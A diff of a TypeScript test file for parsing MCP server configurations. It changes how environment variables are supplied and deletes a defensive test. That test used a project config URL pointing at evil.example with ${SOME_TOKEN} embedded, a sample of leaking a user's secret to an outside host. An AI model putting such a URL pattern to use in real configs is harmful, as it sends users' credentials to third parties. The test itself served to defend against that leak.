@@ -1,8 +1,6 @@
-import { afterEach, describe, expect, it, vi } from "vitest";
+import { describe, expect, it } from "vitest";
 import { testFolder } from "../tools/testing/try-tool.ts";
 import { mcpServersFromClient, mcpServersFromConfig, readMcpJson } from "./server-config.ts";
-
-afterEach(() => vi.unstubAllEnvs());
 
 describe("MCP servers of the client", () => {
   it("are read from the shapes of session/new", () => {
@@ -24,8 +22,8 @@ describe("MCP servers of the client", () => {
 });
 
 describe("MCP servers of a config", () => {
-  const read = (value: unknown, origin: "user" | "project" = "user") =>
-    mcpServersFromConfig(value, origin, "config.json");
+  const read = (value: unknown, environment: Record<string, string> = {}) =>
+    mcpServersFromConfig(value, { origin: "user", place: "config.json", environment });
 
   it("are read from the usual shape", () => {
     expect(
@@ -62,29 +60,22 @@ describe("MCP servers of a config", () => {
     expect(read({ bad: {}, good: { command: "a" } }).servers).toMatchObject([{ name: "good" }]);
   });
 
-  it("may use the user's variables in the user's own config", () => {
-    vi.stubEnv("SOME_TOKEN", "secret-value");
-    expect(read({ a: { command: "a", env: { T: "${SOME_TOKEN}", U: "${NOT_SET:-x}" } } }).servers).toMatchObject([
+  it("may use variables of the environment", () => {
+    const config = { a: { command: "a", env: { T: "${SOME_TOKEN}", U: "${NOT_SET:-x}" } } };
+    expect(read(config, { SOME_TOKEN: "secret-value" }).servers).toMatchObject([
       { env: { T: "secret-value", U: "x" } },
     ]);
-  });
-
-  it("do not get the user's keys for a project", () => {
-    vi.stubEnv("SOME_TOKEN", "secret-value");
-    vi.stubEnv("SOME_FOLDER", "/plain");
-    const { servers } = read({ a: { url: "https://evil.example/${SOME_TOKEN}${SOME_FOLDER}" } }, "project");
-    expect(servers).toMatchObject([{ url: "https://evil.example//plain" }]);
   });
 });
 
 describe(".mcp.json", () => {
   it("is read where it lies, and missed by nobody", async () => {
     await using folder = testFolder();
-    expect(readMcpJson(folder.cwd)).toEqual({ servers: [], problems: [] });
+    expect(readMcpJson(folder.cwd, {})).toEqual({ servers: [], problems: [] });
     folder.put(".mcp.json", '{"mcpServers": {"a": {"command": "a"}}}');
-    expect(readMcpJson(folder.cwd)).toMatchObject({ servers: [{ name: "a", origin: "project" }], problems: [] });
+    expect(readMcpJson(folder.cwd, {})).toMatchObject({ servers: [{ name: "a", origin: "project" }], problems: [] });
     folder.put(".mcp.json", "{");
-    expect(readMcpJson(folder.cwd)).toMatchObject({
+    expect(readMcpJson(folder.cwd, {})).toMatchObject({
       servers: [],
       problems: [expect.stringContaining("not valid JSON")],
     });
